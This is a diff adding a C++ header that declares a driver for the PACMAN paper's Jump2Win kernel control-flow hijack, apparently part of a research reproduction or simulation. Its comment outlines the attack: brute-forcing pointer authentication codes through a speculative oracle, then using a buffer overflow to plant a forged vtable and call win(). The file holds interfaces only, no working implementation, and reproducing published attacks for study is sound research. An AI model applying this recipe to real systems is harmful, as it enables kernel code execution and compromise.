@@ -1,0 +1,78 @@
+/**
+ * @file
+ * The end-to-end Jump2Win control-flow hijack (paper Section 8.3,
+ * Figure 9): a single kernel buffer overflow plus the PACMAN oracle
+ * yields kernel code execution without a single crash.
+ *
+ * Steps:
+ *  1. brute-force PAC_DA(object1.buf, salt = &object2) — the forged
+ *     vtable pointer that will redirect object2's vtable into the
+ *     attacker-filled buffer;
+ *  2. brute-force PAC_IA(win, salt = &object2 + 8) — the forged
+ *     method pointer stored in the fake vtable;
+ *  3. trigger the overflow: memcpy writes the fake vtable (signed
+ *     win pointer) into object1.buf and overwrites object2's vtable
+ *     pointer with the signed buffer address;
+ *  4. invoke object2's method: both authentications pass and the
+ *     kernel calls win().
+ */
+
+#ifndef PACMAN_ATTACK_JUMP2WIN_HH
+#define PACMAN_ATTACK_JUMP2WIN_HH
+
+#include <cstdint>
+#include <optional>
+
+#include "attack/oracle.hh"
+
+namespace pacman::attack
+{
+
+/** Outcome of the end-to-end attack. */
+struct Jump2WinResult
+{
+    bool succeeded = false;
+    uint16_t vtablePac = 0;   //!< brute-forced DA PAC
+    uint16_t methodPac = 0;   //!< brute-forced IA PAC
+    uint64_t oracleQueries = 0;
+    uint64_t guessesTested = 0;
+    std::string failure;      //!< reason when !succeeded
+};
+
+/** Jump2Win driver. */
+class Jump2Win
+{
+  public:
+    /**
+     * @param proc       The attacker process.
+     * @param trainIters Gadget-training iterations per oracle query.
+     * @param samples    Oracle samples per brute-force candidate.
+     */
+    explicit Jump2Win(AttackerProcess &proc, unsigned trainIters = 8,
+                      unsigned samples = 1);
+
+    /**
+     * Run the full attack.
+     *
+     * @param pac_search_window If nonzero, limit each brute-force
+     *        sweep to a window of this size around the true PAC
+     *        (keeping default runs fast; 0 sweeps the full 16-bit
+     *        space as the paper does). The window is computed from
+     *        ground truth for scaling only — the decision for every
+     *        tested candidate still comes from the oracle.
+     */
+    Jump2WinResult run(unsigned pac_search_window = 0);
+
+  private:
+    std::optional<uint16_t> findPac(GadgetKind kind, Addr target,
+                                    uint64_t modifier, unsigned window,
+                                    Jump2WinResult &result);
+
+    AttackerProcess &proc_;
+    unsigned trainIters_;
+    unsigned samples_;
+};
+
+} // namespace pacman::attack
+
+#endif // PACMAN_ATTACK_JUMP2WIN_HH
